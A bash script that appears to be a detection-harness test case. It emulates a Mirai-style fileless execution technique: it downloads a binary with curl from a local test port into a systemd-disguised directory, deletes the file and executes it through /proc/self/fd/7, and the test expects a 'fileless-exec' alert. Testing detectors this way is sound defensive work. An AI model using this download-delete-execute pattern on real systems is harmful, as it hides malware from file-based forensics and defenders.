#!/bin/bash
# technique: T1070.004 Indicator Removal: File Deletion; T1620 Reflective Code Loading
# reproduces: Linux bots that unlink their own binary (Mirai and its descendants), here done before the exec: open the dropped file, delete it, run it through /proc/self/fd/N so it never runs under a name on disk
# expect: fileless-exec ^sysupdate$
# exec-borne: yes
#
# bash keeps descriptor 7 on the file across the unlink; the child it
# starts executes /proc/self/fd/7, i.e. "/.../sysupdate (deleted)".
set -u

drop_dir=$(mktemp -d "${BW_ATTACK_TMP:?}/systemd-private-XXXXXX")
trap 'rm -rf "$drop_dir"' EXIT
bin="$drop_dir/sysupdate"

curl -fsS --connect-timeout 5 -o "$bin" "http://127.0.0.1:${BW_ATTACK_PORT:?}/agent" || exit 1
chmod 700 "$bin"

exec 7<"$bin"
rm -f "$bin"
/proc/self/fd/7
status=$?
exec 7<&-
exit "$status"
